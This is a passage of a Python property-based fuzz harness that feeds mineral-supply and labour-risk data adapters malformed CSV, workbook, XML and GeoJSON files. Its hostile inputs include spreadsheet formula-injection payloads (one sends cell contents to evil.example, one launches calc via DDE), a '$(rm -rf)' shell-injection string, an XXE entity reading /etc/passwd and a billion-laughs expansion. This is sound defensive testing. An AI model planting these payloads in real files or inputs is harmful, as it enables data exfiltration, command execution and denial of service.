"""Hypothesis harness that feeds every source adapter malformed copies of a real slice of its file.

Each example takes the header and ~20 real rows (features, elements) of the mirrored file, mutates
them (hostile cells, swapped or missing columns, truncated rows, wrong delimiters, encodings, BOMs,
broken bytes, missing sheets or elements), writes the result to a temporary raw directory and calls
the adapter. The adapter must either raise SourceError naming its source, or account for every row
it was given: ``rows_in`` equals the number of data rows in the file (counted independently here),
every reject has a reason, and what it loaded shows up in its tables with sane values.
"""

from __future__ import annotations

import copy
import csv
import datetime as dt
import functools
import io
import json
import math
import re
import signal
import sys
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass, field, replace
from pathlib import Path
from typing import Any

import numpy as np
import openpyxl
import pandas as pd
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st
from lxml import etree
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

from riskatlas.paths import SHARED_DATA
from riskatlas.sources import adapter
from riskatlas.sources.base import (
    GEO_PRECISIONS,
    TIERS,
    AdapterResult,
    SourceError,
    valid_coordinate,
)

SEED_ROWS = 20
APPLIED: list[str] = []  # the damage done to the current example's file(s), for the report
REPO = Path(__file__).resolve().parent.parent
HANG_SECONDS = 30  # one tiny file must never take this long

# ---------------------------------------------------------------------------------------------
# Hostile values
# ---------------------------------------------------------------------------------------------

NUMBERS = [
    "nan", "NaN", "-nan", "inf", "-inf", "Infinity", "-Infinity", "1e309", "-1e400", "1e308",
    "0", "-0", "0.0", "91", "-90.0001", "180.5", "-181", "1000000", "1e-320", "4.9e-324",
    "0x1A", "1_000", "1,5", "12,345,678", "²", "³³", "٣٤", "１２", "  12  ", "12abc", "-", "..",
    ":", "N/A", "null", "None", "2013.5", "-2013", "99999999999999999999999", "1" * 30,
]  # fmt: skip
FORMULAS = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "=1+1",
    "+SUM(A1:A9)",
    "-2+3",
    "@SUM(1)",
    "=cmd|' /C calc'!A0",
    "\t=1+1",
    '=IMPORTXML(CONCAT("http://x/",A2),"//a")',
]
STRUCTURAL = [
    '"', '""', 'a"b', '"unclosed', "\n", "\r\n", "\r", ",", ";", "\t", "|", "\x00", "a\x00b",
    "\u2028", "\u2029", "\x0b", "\x0c", "\x1c", "\x85", "\ufeff", "\ufffd", "<x>", "&amp;",
    "]]>", "<!--", "\\N", "['\\N']", "['a\\x']", "['a', 'b'],c", "[\"x\\u12\"]", "$(rm -rf)",
    "{{7*7}}", "<script>alert(1)</script>", "a;b;c", "Tin (Sn", "Gold)", "(((((",
]  # fmt: skip
PLACES = [
    "Congo", "Georgia", "Korea", "DRC", "Côte d'Ivoire", "Cote d'Ivoire", "XKX", "ZAR", "ZZZ",
    "-99", "Unknown", "EU", "EU27_2020", "UK", "EL", "Taiwan", "Kosovo", "Peru", "Perú",
    "United States", "Democratic Republic of the Congo", "West Bank", "Gaza Strip", "Tibet",
]  # fmt: skip
MINERALS = ["Tin", "tantalum", "Cobalt (Co)", "Gold", "3T", "Coltan", "Wolframite", "Or", "Sn/Ta"]


def _huge(unit: str, n: int) -> str:
    return unit * n


def hostile_text() -> st.SearchStrategy[str]:
    """One cell of text a broken or hostile file could carry."""
    return st.one_of(
        st.sampled_from(NUMBERS),
        st.sampled_from(FORMULAS),
        st.sampled_from(STRUCTURAL),
        st.sampled_from(PLACES),
        st.sampled_from(MINERALS),
        st.text(max_size=30),
        st.from_regex(r"-?\d{1,4}(\.\d{1,8})?([eE][+-]?\d{1,3})?", fullmatch=True),
        st.builds(
            _huge, st.sampled_from(["x", "9", "é", "a,", '"', "Tin ", "\n"]), st.integers(300, 6000)
        ),
        st.integers(1, 3000).map(lambda n: "(" * n + "Tin" + ")" * n),
        st.just(""),
        st.just("   "),
    )


def hostile_cell() -> st.SearchStrategy[Any]:
    """A workbook cell: hostile text, or a value of the wrong type."""
    return st.one_of(
        hostile_text(),
        st.none(),
        st.booleans(),
        st.integers(min_value=-(10**18), max_value=10**18),
        st.floats(allow_nan=True, allow_infinity=True),
        st.datetimes(min_value=dt.datetime(1900, 1, 1), max_value=dt.datetime(2100, 1, 1)),
        st.dates(min_value=dt.date(1900, 1, 1), max_value=dt.date(2100, 1, 1)),
    )


# ---------------------------------------------------------------------------------------------
# Targets: one per adapter
# ---------------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Target:
    """How to fuzz one adapter: its file, format, columns worth aiming at, and what to trace."""

    name: str
    kind: str  # csv | tsv | xlsx | xml | geojson
    folder: str
    filename: str
    key_cols: tuple[str, ...] = ()
    header_row: int = 0  # xlsx: index of the header row (Freedom House has a title row first)
    sheet: str | None = None  # xlsx
    xml_path: str = ""  # xml: path from the root to one entry
    seed_path: Path | None = None  # a file outside the mirror (curated e-waste)
    trace: Callable[[AdapterResult], str | None] | None = None
    call_with_path: bool = False  # curated_ewaste.load(raw_dir, path=...)

    @property
    def source(self) -> Path:
        return self.seed_path or SHARED_DATA / self.folder / self.filename


def _table(result: AdapterResult, name: str) -> pd.DataFrame:
    return result.tables.get(name, pd.DataFrame())


def _col_sum(df: pd.DataFrame, col: str) -> int:
    return int(df[col].sum()) if col in df.columns and len(df) else 0


def _exactly(what: str, got: int, want: int) -> str | None:
    return None if got == want else f"{what}: {got} != rows_loaded-derived {want}"


def _at_most(what: str, got: int, limit: int) -> str | None:
    return None if got <= limit else f"{what}: {got} > {limit} (more output than loaded rows)"


RMI_KEYS = ("smelter_id", "lookup_name", "country", "metal", "template", "template_version",
            "template_release_date", "standard_smelter_name")  # fmt: skip
# Sheet columns A-I, as rmi.COLUMNS names them (the cached header texts are in Chinese).
RMI_SHEET_COLUMNS = ("metal", "lookup_name", "standard_smelter_name", "country", "smelter_id",
                     "id_source", "street", "city", "state_province")  # fmt: skip

TRACES: dict[str, Callable[[AdapterResult], str | None]] = {
    "country_codes": lambda r: _exactly(
        "ISO rows in countries",
        int(_table(r, "countries").get("in_iso3166", pd.Series(dtype=bool)).fillna(False).sum()),
        r.rows_loaded,
    ),
    "natural_earth": lambda r: _exactly(
        "country_shapes rows", len(_table(r, "country_shapes")), r.rows_loaded
    ),
    "ipis": lambda r: _exactly(
        "sum of records.n_visits", _col_sum(_table(r, "records"), "n_visits"), r.rows_loaded
    ),
    "icmm": lambda r: _exactly("records", len(_table(r, "records")), r.rows_loaded),
    "mrds": lambda r: _exactly(
        "sum of records.n_rows", _col_sum(_table(r, "records"), "n_rows"), r.rows_loaded
    ),
    "usgs_africa": lambda r: _exactly("records", len(_table(r, "records")), r.rows_loaded),
    "apple": lambda r: _exactly("links", len(_table(r, "links")), r.rows_loaded),
    "curated_ewaste": lambda r: _exactly(
        "site_facts (2 per row)", len(_table(r, "site_facts")), 2 * r.rows_loaded
    ),
    "rmi": lambda r: (
        _at_most("smelter ids in rmi_reference", len(_table(r, "rmi_reference")), r.rows_loaded)
        or _exactly("records", len(_table(r, "records")), len(_table(r, "rmi_reference")))
        or (None if r.rows_loaded == 0 or len(_table(r, "records")) else "no record from rows")
    ),
    "ilab_goods": lambda r: (
        _at_most(
            "distinct goods_risk entries", _nunique(r, "goods_risk", "source_ref"), r.rows_loaded
        )
        or (
            None
            if len(_table(r, "goods_risk")) >= r.rows_loaded
            else "goods_risk has fewer rows than loaded entries"
        )
    ),
    "ilab_countries": lambda r: _exactly(
        "ilab_country_profiles", len(_table(r, "ilab_country_profiles")), r.rows_loaded
    ),
    "walkfree": lambda r: _at_most(
        "countries with indicators",
        _nunique(r, "country_indicators", "country_iso3"),
        r.rows_loaded,
    ),
    "freedom_house": lambda r: _exactly(
        "country_indicators (5 per row)", len(_table(r, "country_indicators")), 5 * r.rows_loaded
    ),
    "wgi": lambda r: _at_most(
        "country_indicators (<= 2 per row)", len(_table(r, "country_indicators")), 2 * r.rows_loaded
    ),
    "what_a_waste": lambda r: _at_most(
        "countries with indicators",
        _nunique(r, "country_indicators", "country_iso3"),
        r.rows_loaded,
    ),
    "eurostat_weee": lambda r: _at_most(
        "distinct series in weee",
        len(_table(r, "weee").drop_duplicates(["geo", "waste", "operation", "unit"]))
        if len(_table(r, "weee"))
        else 0,
        r.rows_loaded,
    ),
    "owid_ewaste": lambda r: _at_most(
        "indicator + region rows",
        len(_table(r, "country_indicators")) + len(_table(r, "ewaste_recycling_regions")),
        r.rows_loaded,
    ),
}


def _nunique(r: AdapterResult, table: str, col: str) -> int:
    df = _table(r, table)
    return int(df[col].nunique()) if col in df.columns else 0


# fmt: off
TARGETS: dict[str, Target] = {
    t.name: t
    for t in [
        Target("country_codes", "csv", "country_codes", "country-codes.csv",
               ("ISO3166-1-Alpha-3", "ISO3166-1-Alpha-2", "CLDR display name", "Region Name")),
        Target("natural_earth", "geojson", "natural_earth_admin0_110m",
               "ne_110m_admin_0_countries.geojson"),
        Target("ipis", "csv", "ipis_drc_mine_sites", "cod_mines_curated_all_opendata_p_ipis.csv",
               ("vid", "pcode", "visit_date", "latitude", "longitude", "workers_numb",
                "mineral1", "location_origin", "presence", "name")),
        Target("icmm", "xlsx", "icmm_global_mining_dataset_2025",
               "icmm_global_mining_dataset_2025_09.xlsx",
               ("ICMMID", "Latitude", "Longitude", "Country", "Primary Commodity", "Asset Type"),
               sheet="External"),
        Target("mrds", "csv", "usgs_mrds", "minmod_mineral_sites_co_li_ni_ta_nb_w_ree_2024.csv",
               ("ms_uri", "lat", "lon", "site_name", "country", "commodity", "source_id",
                "record_id", "state_or_province")),
        Target("usgs_africa", "csv", "usgs_africa_mineral_deposits",
               "usgs_africa_mineral_deposits.csv",
               ("gid", "latitude", "longitude", "commodity", "country", "dep_name")),
        Target("apple", "csv", "apple_supplier_list_2012_2022",
               "apple_supplier_list_2012_2022.csv",
               ("year", "supplier_name", "country", "supplier_address")),
        Target("curated_ewaste", "csv", "", "curated_ewaste.csv",
               ("slug", "country", "year", "url", "name", "town"),
               seed_path=REPO / "riskatlas" / "data" / "curated_ewaste.csv",
               call_with_path=True),
        Target("ilab_goods", "xml", "ilab_child_forced_labor", "ilab_goods_list_source.xml",
               ("Country_Name", "Child_Labor", "Forced_Labor", "Derived_Labor_Exploitation",
                "Derived_Country", "Good_Name"),
               xml_path="Good/Countries/Country"),
        Target("ilab_countries", "xml", "ilab_child_forced_labor",
               "ilab_country_findings_source.xml",
               ("Name", "Advancement_Level", "Labor_Inspectors", "C_138_Ratified",
                "Total_Percentage_of_Working_Children", "Labor_Inspectors_Intl_Standards"),
               xml_path="Country"),
        Target("walkfree", "csv", "walkfree_global_slavery_index_2023",
               "Global_Slavery_Index_2023_original.csv",
               ("Country", "Estimated prevalence of modern slavery per 1,000 population",
                "Estimated number of people in modern slavery")),
        Target("freedom_house", "xlsx", "freedom_house_fiw_2013_2024",
               "All_data_FIW_2013-2024.xlsx",
               ("Country/Territory", "C/T", "Edition", "E3", "G4", "PR", "CL", "Total"),
               header_row=1, sheet="FIW13-24"),
        Target("wgi", "csv", "world_bank_wgi", "wgidataset.csv",
               ("code", "year", "indicator", "estimate", "pctrank", "codeindyr")),
        Target("what_a_waste", "csv", "world_bank_what_a_waste", "country_level_data_0.csv",
               ("iso3c", "country_name", "population_population_number_of_people",
                "special_waste_e_waste_tons_year", "waste_treatment_recycling_percent",
                "waste_treatment_controlled_landfill_percent")),
        Target("eurostat_weee", "tsv", "eurostat_weee_env_waselee", "env_waselee.tsv"),
        Target("owid_ewaste", "csv", "owid_ewaste_recycling_rate",
               "electronic-waste-recycling-rate.csv",
               ("Entity", "Code", "Year", "Proportion of electronic waste recycled (%)")),
        # RMI reads four template workbooks and one CSV; each example damages one of them.
        Target("rmi", "rmi", "rmi_smelter_reference_list", "", RMI_KEYS,
               header_row=3, sheet="Smelter Look-up"),
    ]
}
# fmt: on


# ---------------------------------------------------------------------------------------------
# Seeds: a real slice of each mirrored file (read once per process)
# ---------------------------------------------------------------------------------------------


def _spread(rows: list, n: int) -> list:
    """n rows evenly spread over the file, so the slice is not one publisher's first block."""
    if len(rows) <= n:
        return list(rows)
    step = len(rows) / n
    return [rows[int(i * step)] for i in range(n)]


@functools.cache
def seed(name: str) -> Any:
    """The real slice a target's mutations start from (rows, a tree, or a GeoJSON dict)."""
    t = TARGETS[name]
    if t.kind == "csv":
        with open(t.source, encoding="utf-8-sig", newline="") as f:
            rows = [r for r in csv.reader(f) if any(c.strip() for c in r)]
        return [rows[0], *_spread(rows[1:], SEED_ROWS)]
    if t.kind == "tsv":
        lines = [ln for ln in t.source.read_text(encoding="utf-8").split("\n") if ln.strip()]
        return [ln.split("\t") for ln in [lines[0], *_spread(lines[1:], SEED_ROWS)]]
    if t.kind == "xlsx":
        wb = openpyxl.load_workbook(t.source, read_only=True, data_only=True)
        try:
            it = wb[t.sheet].iter_rows(values_only=True)
            head = [list(next(it)) for _ in range(t.header_row + 1)]
            body = [list(next(it)) for _ in range(SEED_ROWS * 10)]
        finally:
            wb.close()
        return [*head, *_spread(body, SEED_ROWS)]
    if t.kind == "xml":
        root = etree.parse(str(t.source)).getroot()
        if name == "ilab_goods":
            goods = root.findall("Good")
            keep = _spread(goods, 10)
        else:
            keep = _spread(root.findall("Country"), SEED_ROWS)
        for child in list(root):
            if child not in keep:
                root.remove(child)
        return etree.tostring(root)
    if t.kind == "geojson":
        data = json.loads(t.source.read_text(encoding="utf-8"))
        # The -99 features, Fiji (crosses the antimeridian) and the USA, plus a spread of others.
        # Russia and Antarctica are left out: their antimeridian fix alone takes ~0.2 s a file.
        feats = [f for f in data["features"] if f["properties"]["ADM0_A3"] not in ("RUS", "ATA")]
        special = [
            f for f in feats
            if f["properties"].get("ISO_A3") == "-99"
            or f["properties"].get("ADM0_A3") in ("FJI", "USA")
        ]  # fmt: skip
        data["features"] = special + _spread([f for f in feats if f not in special], 12)
        return json.dumps(data)
    raise ValueError(t.kind)


# ---------------------------------------------------------------------------------------------
# Row-table mutations (CSV, TSV and workbook sheets)
# ---------------------------------------------------------------------------------------------

TABLE_OPS = (
    "set_cell", "set_cell", "set_cell", "set_key_cell", "set_key_cell", "set_key_cell",
    "set_column", "swap_cols", "swap_header_names", "drop_col", "rename_header", "truncate_row",
    "extend_row", "dup_row", "drop_rows", "blank_row", "shuffle", "shift_header", "header_only",
    "shift_columns", "no_rows", "dup_col",
)  # fmt: skip


def mutate_table(data: st.DataObject, rows: list[list[Any]], t: Target, typed: bool) -> list[list]:
    """Apply 0-5 random row/column mutations; rows[t.header_row] is the header."""
    rows = [list(r) for r in rows]
    h = t.header_row
    value = hostile_cell() if typed else hostile_text()
    for _ in range(data.draw(st.integers(0, 5), label="n_table_ops")):
        op = data.draw(st.sampled_from(TABLE_OPS), label="table_op")
        APPLIED.append(op)
        body = range(h + 1, len(rows))
        width = max((len(r) for r in rows), default=0)
        if op in ("set_cell", "set_key_cell") and len(rows) > h + 1 and width:
            i = data.draw(st.sampled_from(body), label="row")
            header = rows[h] if len(rows) > h else []
            keys = [header.index(k) for k in t.key_cols if k in header]
            if op == "set_key_cell" and keys:
                j = data.draw(st.sampled_from(keys), label="key_col")
            else:
                j = data.draw(st.integers(0, width - 1), label="col")
            while len(rows[i]) <= j:
                rows[i].append("" if not typed else None)
            rows[i][j] = data.draw(value, label="cell")
        elif op == "set_column" and len(rows) > h and rows[h]:
            header = rows[h]
            keys = [header.index(k) for k in t.key_cols if k in header] or list(range(len(header)))
            j = data.draw(st.sampled_from(keys), label="col")
            v = data.draw(value, label="cell")
            for i in body:
                if j < len(rows[i]):
                    rows[i][j] = v
        elif op in ("swap_cols", "swap_header_names") and len(rows) > h and len(rows[h]) > 1:
            a, b = data.draw(
                st.lists(st.integers(0, len(rows[h]) - 1), min_size=2, max_size=2, unique=True),
                label="swap",
            )
            targets = [rows[h]] if op == "swap_header_names" else rows[h:]
            for r in targets:
                if max(a, b) < len(r):
                    r[a], r[b] = r[b], r[a]
        elif op == "drop_col" and width > 1:
            j = data.draw(st.integers(0, width - 1), label="col")
            for r in rows:
                if j < len(r):
                    del r[j]
        elif op == "rename_header" and len(rows) > h and rows[h]:
            j = data.draw(st.integers(0, len(rows[h]) - 1), label="col")
            names = [c for c in rows[h] if isinstance(c, str) and c]
            other = st.sampled_from(names) if names else value  # a duplicate column name
            rows[h][j] = data.draw(st.one_of(value, other), label="name")
        elif op == "dup_col" and width:
            j = data.draw(st.integers(0, width - 1), label="col")
            at = data.draw(st.integers(0, width), label="at")
            for r in rows:
                r.insert(min(at, len(r)), r[j] if j < len(r) else ("" if not typed else None))
        elif op == "truncate_row" and len(rows) > h + 1:
            i = data.draw(st.sampled_from(body), label="row")
            rows[i] = rows[i][: data.draw(st.integers(0, max(0, len(rows[i]) - 1)), label="keep")]
        elif op == "extend_row" and len(rows) > h + 1:
            i = data.draw(st.sampled_from(body), label="row")
            rows[i] += data.draw(st.lists(value, min_size=1, max_size=3), label="extra")
        elif op == "dup_row" and len(rows) > h + 1:
            i = data.draw(st.sampled_from(body), label="row")
            rows.insert(data.draw(st.integers(h + 1, len(rows)), label="at"), list(rows[i]))
        elif op == "drop_rows" and len(rows) > h + 1:
            keep = data.draw(st.lists(st.booleans(), min_size=len(body), max_size=len(body)))
            rows = rows[: h + 1] + [r for r, k in zip(rows[h + 1 :], keep, strict=True) if k]
        elif op == "blank_row":
            blank = data.draw(st.sampled_from([[], [""], ["", ""], [" ", "\t"], [None, None]]))
            if not typed:
                blank = ["" if c is None else c for c in blank]
            rows.insert(data.draw(st.integers(0, len(rows)), label="at"), blank)
        elif op == "shuffle" and len(rows) > h + 2:
            body_rows = data.draw(st.permutations(rows[h + 1 :]), label="perm")
            rows = rows[: h + 1] + list(body_rows)
        elif op == "shift_header":
            rows.insert(0, data.draw(st.lists(value, max_size=3), label="above_header"))
        elif op == "header_only":
            rows = rows[: h + 1]
        elif op == "shift_columns":
            pad = None if typed else ""
            for r in rows[data.draw(st.integers(0, len(rows)), label="from") :]:
                r.insert(0, pad)
        elif op == "no_rows":
            rows = []
    return rows


# ---------------------------------------------------------------------------------------------
# Serialisation and byte-level damage
# ---------------------------------------------------------------------------------------------

# Most files keep their bytes, so that row-level damage is exercised and not hidden by one
# undecodable byte; the rest are damaged in one of eight ways.
BYTE_OPS = ("none",) * 12 + (
    "truncate", "insert_garbage", "flip", "binary", "empty", "bom", "append_garbage", "nul",
)  # fmt: skip


def mutate_bytes(data: st.DataObject, blob: bytes) -> tuple[bytes, str]:
    """Damage the file's bytes the way a broken download, disk or editor would.

    Positions are drawn as fractions of the length: a workbook's bytes vary with its save time.
    """
    op = data.draw(st.sampled_from(BYTE_OPS), label="byte_op")
    if op != "none":
        APPLIED.append(op)

    def pos(limit: int) -> int:
        return data.draw(st.integers(0, 10**6), label="at") * limit // 10**6

    if op == "truncate":
        blob = blob[: pos(max(0, len(blob) - 1))]
    elif op == "insert_garbage":
        at = pos(len(blob))
        blob = (
            blob[:at] + data.draw(st.binary(min_size=1, max_size=64), label="garbage") + blob[at:]
        )
    elif op == "flip" and blob:
        at = pos(len(blob) - 1)
        blob = blob[:at] + bytes([data.draw(st.integers(0, 255))]) + blob[at + 1 :]
    elif op == "binary":
        blob = data.draw(st.binary(max_size=2000), label="binary")
    elif op == "empty":
        blob = b""
    elif op == "bom":
        blob = b"\xef\xbb\xbf" + blob
    elif op == "append_garbage":
        blob = blob + data.draw(st.binary(min_size=1, max_size=200), label="tail")
    elif op == "nul":
        at = pos(len(blob))
        blob = blob[:at] + b"\x00" * data.draw(st.integers(1, 8)) + blob[at:]
    return blob, op


ENCODINGS = ("utf-8",) * 10 + ("utf-8-sig", "utf-8-sig", "latin-1", "cp1252", "utf-16", "utf-32")


def write_csv(data: st.DataObject, rows: list[list[str]], delimiter: str = ",") -> bytes:
    """Rows as CSV bytes, sometimes with another delimiter, line ending, quoting or encoding."""
    delim = data.draw(st.sampled_from([delimiter] * 14 + [";", "\t"]), label="delim")
    if delim != delimiter:
        APPLIED.append(f"delimiter {delim!r}")
    term = data.draw(st.sampled_from(["\r\n", "\n", "\n", "\r"]), label="eol")
    quoting = data.draw(st.sampled_from([csv.QUOTE_MINIMAL] * 3 + [csv.QUOTE_ALL]), label="quoting")
    buf = io.StringIO(newline="")
    csv.writer(buf, delimiter=delim, lineterminator=term, quoting=quoting).writerows(
        [["" if c is None else str(c) for c in r] for r in rows]
    )
    return _encode(data, buf.getvalue())


def _encode(data: st.DataObject, text: str) -> bytes:
    enc = data.draw(st.sampled_from(ENCODINGS), label="encoding")
    if enc not in ("utf-8", "utf-8-sig"):
        APPLIED.append(enc)
    return text.encode(enc, errors="replace")


def write_tsv(data: st.DataObject, rows: list[list[str]]) -> bytes:
    term = data.draw(st.sampled_from(["\n", "\n", "\r\n"]), label="eol")
    return _encode(data, term.join("\t".join(str(c) for c in r) for r in rows) + term)


def _xlsx_value(v: Any) -> Any:
    if isinstance(v, str):
        return ILLEGAL_CHARACTERS_RE.sub("", v)[:32767]
    if isinstance(v, float) and not math.isfinite(v):
        return str(v)  # openpyxl would write a blank cell; a text "nan"/"inf" is the hostile case
    return v


def write_xlsx(data: st.DataObject, rows: list[list[Any]], t: Target) -> bytes:
    """A workbook made with openpyxl: the sheet may be missing, renamed, or not the first."""
    sheet_op = data.draw(
        st.sampled_from(["ok"] * 6 + ["missing", "renamed", "extra_first", "two_sheets_empty"]),
        label="sheet_op",
    )
    title = {"missing": "Sheet1", "renamed": f"{t.sheet} "}.get(sheet_op, t.sheet)
    if sheet_op != "ok":
        APPLIED.append(sheet_op)
    return workbook_bytes(rows, title, sheet_op)


def workbook_bytes(rows: list[list[Any]], title: str, sheet_op: str = "ok") -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = title
    if sheet_op == "extra_first":
        wb.create_sheet("About", 0)["A1"] = "About this workbook"
    if sheet_op == "two_sheets_empty":
        wb.create_sheet("Empty")
    for r in rows:
        ws.append([_xlsx_value(v) for v in r])
    buf = io.BytesIO()
    wb.save(buf)
    return buf.getvalue()


XML_TAGS = ("X", "Country", "Good", "Name", "Countries", "Country_Name", "Goods", "Child_Labor")


def _xml_safe(s: Any) -> str:
    s = "" if s is None else str(s)
    return "".join(
        c for c in s if c in "\t\n\r" or (" " <= c <= "\ud7ff") or ("\ue000" <= c <= "\ufffd")
        or c >= "\U00010000"
    )  # fmt: skip


XML_OPS = (
    "set_key_text", "set_key_text", "set_key_text", "set_text", "delete", "delete_key",
    "duplicate", "rename", "clear", "to_root", "comment", "namespace_root", "rename_root",
    "unknown_child", "empty_root",
)  # fmt: skip


def write_xml(data: st.DataObject, blob: bytes, t: Target) -> bytes:
    """The seed XML with elements deleted, duplicated, renamed or given hostile text."""
    root = etree.fromstring(blob)
    for _ in range(data.draw(st.integers(0, 5), label="n_xml_ops")):
        op = data.draw(st.sampled_from(XML_OPS), label="xml_op")
        APPLIED.append(op)
        elements = list(root.iter(etree.Element))[1:]
        keyed = [e for e in elements if e.tag in t.key_cols]
        if op in ("set_key_text", "delete_key") and keyed:
            el = data.draw(st.sampled_from(keyed), label="el")
            if op == "delete_key":
                el.getparent().remove(el)
            else:
                el.text = _xml_safe(data.draw(hostile_text(), label="text"))
        elif not elements:
            continue
        elif op == "set_text":
            el = data.draw(st.sampled_from(elements), label="el")
            el.text = _xml_safe(data.draw(hostile_text(), label="text"))
        elif op == "delete":
            el = data.draw(st.sampled_from(elements), label="el")
            el.getparent().remove(el)
        elif op == "duplicate":
            el = data.draw(st.sampled_from(elements), label="el")
            el.getparent().append(copy.deepcopy(el))
        elif op == "rename":
            el = data.draw(st.sampled_from(elements), label="el")
            el.tag = data.draw(st.sampled_from(XML_TAGS), label="tag")
        elif op == "clear":
            data.draw(st.sampled_from(elements), label="el").clear()
        elif op == "to_root":
            el = data.draw(st.sampled_from(elements), label="el")
            el.getparent().remove(el)
            root.append(el)
        elif op == "comment":
            el = data.draw(st.sampled_from(elements), label="el")
            el.append(etree.Comment(" -- a comment -- ".replace("--", "- -")))
        elif op == "unknown_child":
            el = data.draw(st.sampled_from(elements), label="el")
            etree.SubElement(el, "Unexpected").text = "<b>&amp;</b>"
        elif op == "namespace_root" and not root.tag.startswith("{"):
            root.tag = "{urn:x}" + root.tag
        elif op == "rename_root":
            root.tag = data.draw(st.sampled_from(XML_TAGS), label="tag")
        elif op == "empty_root":
            for child in list(root):
                root.remove(child)
    decl = data.draw(st.booleans(), label="xml_declaration")
    out = etree.tostring(root, encoding="utf-8", xml_declaration=decl)
    prolog = data.draw(
        st.sampled_from(
            ["", "", "", "doctype_entity", "xxe", "wrong_encoding_decl", "utf16", "two_roots"]
        ),
        label="xml_prolog",
    )
    if prolog:
        APPLIED.append(prolog)
    body = out.split(b"?>", 1)[1] if decl else out
    if prolog == "doctype_entity":
        lol = '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">'
        out = f"<!DOCTYPE r [{lol}]>".encode() + body.replace(b"</", b"&b;</", 1)
    elif prolog == "xxe":
        out = b'<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + body.replace(
            b"</", b"&x;</", 1
        )
    elif prolog == "wrong_encoding_decl":
        out = b'<?xml version="1.0" encoding="ISO-8859-1"?>' + body
    elif prolog == "utf16":
        out = etree.tostring(root, encoding="utf-16", xml_declaration=True)
    elif prolog == "two_roots":
        out = out + out
    return out


GEO_OPS = (
    "geom_coord", "geom_coord", "geom_coord", "geom_type", "geom_garbage", "geom_none",
    "props_key", "props_key", "props_drop_key", "props_garbage", "feature_garbage",
    "dup_feature", "drop_feature", "features_garbage", "top_type", "short_ring", "huge_ring",
    "empty_features", "nested_coord",
)  # fmt: skip
COORD = st.one_of(
    st.floats(allow_nan=True, allow_infinity=True),
    st.sampled_from([1e308, -1e308, 1000.0, -1000.0, 180.0, -180.0, 90.0, -90.0, 0.0]),
    st.sampled_from(["12", None, [], [1.0], True, {"x": 1}]),
)
GEOM_GARBAGE = st.sampled_from(
    [
        {},
        {"type": "Point", "coordinates": [1.0, 2.0]},
        {"type": "Polygon", "coordinates": []},
        {"type": "Polygon", "coordinates": [[]]},
        {"type": "Polygon"},
        {"type": "Polygon", "coordinates": "abc"},
        {"type": "Polygon", "coordinates": [[[0, 0], [1, 1]]]},
        {"type": "MultiPolygon", "coordinates": [[[]]]},
        {"type": "MultiPolygon", "coordinates": [[[[0, 0], [1, 0], [1, 1], [0, 0]]], 5]},
        {"type": "GeometryCollection", "geometries": []},
        {"type": "Circle", "coordinates": [0, 0]},
        {"type": 7, "coordinates": [[[0, 0], [1, 0], [1, 1], [0, 0]]]},
        {"type": "Polygon", "coordinates": [[[0, 0], [0, 0], [0, 0], [0, 0]]]},
        {"type": "Polygon", "coordinates": [[[0, 0], [10, 10], [10, 0], [0, 10], [0, 0]]]},
        "POLYGON((0 0,1 0,1 1,0 0))",
        [1, 2, 3],
        42,
    ]
)
PROP_VALUE = st.one_of(
    hostile_text(), st.none(), st.integers(), st.floats(), st.sampled_from([[], {}, ["FRA"], True])
)


def write_geojson(data: st.DataObject, blob: str) -> bytes:
    """The seed FeatureCollection with broken geometries, properties and features."""
    doc = json.loads(blob)
    for _ in range(data.draw(st.integers(0, 5), label="n_geo_ops")):
        op = data.draw(st.sampled_from(GEO_OPS), label="geo_op")
        APPLIED.append(op)
        feats = doc.get("features") if isinstance(doc, dict) else None
        if not isinstance(feats, list):
            continue
        dict_feats = [
            f for f in feats if isinstance(f, dict) and isinstance(f.get("properties"), dict)
        ]
        with_geom = [f for f in dict_feats if _has_coords(f.get("geometry"))]
        if op in ("geom_coord", "nested_coord", "short_ring", "huge_ring") and with_geom:
            f = data.draw(st.sampled_from(with_geom), label="feature")
            ring = _first_ring(f["geometry"])
            if op == "geom_coord" and ring:
                i = data.draw(st.integers(0, len(ring) - 1), label="vertex")
                ring[i] = [data.draw(COORD, label="x"), data.draw(COORD, label="y")]
            elif op == "nested_coord" and ring:
                ring[0] = data.draw(st.sampled_from([[], [1.0], [1.0, 2.0, 3.0, 4.0], "x", None]))
            elif op == "short_ring":
                del ring[data.draw(st.integers(1, 3)) :]
            elif op == "huge_ring":
                ring[:] = [[float(i % 360 - 180), float(i % 180 - 90)] for i in range(1000)]
        elif op == "geom_type" and dict_feats:
            f = data.draw(st.sampled_from(dict_feats), label="feature")
            if isinstance(f.get("geometry"), dict):
                f["geometry"]["type"] = data.draw(
                    st.sampled_from(["Point", "LineString", "polygon", "", None, "MultiPolygon"])
                )
        elif op == "geom_garbage" and dict_feats:
            data.draw(st.sampled_from(dict_feats))["geometry"] = copy.deepcopy(
                data.draw(GEOM_GARBAGE, label="geometry")
            )
        elif op == "geom_none" and dict_feats:
            data.draw(st.sampled_from(dict_feats))["geometry"] = None
        elif op == "props_key" and dict_feats:
            f = data.draw(st.sampled_from(dict_feats), label="feature")
            key = data.draw(
                st.sampled_from(["ADM0_A3", "ISO_A3", "ISO_A3_EH", "NAME", "NAME_LONG", "ADMIN"])
            )
            f["properties"][key] = data.draw(PROP_VALUE, label="value")
        elif op == "props_drop_key" and dict_feats:
            f = data.draw(st.sampled_from(dict_feats), label="feature")
            f["properties"].pop(data.draw(st.sampled_from(["ADM0_A3", "ISO_A3", "NAME"])), None)
        elif op == "props_garbage" and dict_feats:
            data.draw(st.sampled_from(dict_feats))["properties"] = data.draw(
                st.sampled_from([None, [], "props", 3, {"other": 1}])
            )
        elif op == "feature_garbage" and feats:
            i = data.draw(st.integers(0, len(feats) - 1), label="index")
            feats[i] = data.draw(st.sampled_from([None, "feature", 7, [], {"type": "Feature"}]))
        elif op == "dup_feature" and feats:
            feats.append(copy.deepcopy(data.draw(st.sampled_from(feats))))
        elif op == "drop_feature" and feats:
            del feats[data.draw(st.integers(0, len(feats) - 1))]
        elif op == "empty_features":
            doc["features"] = []
        elif op == "features_garbage":
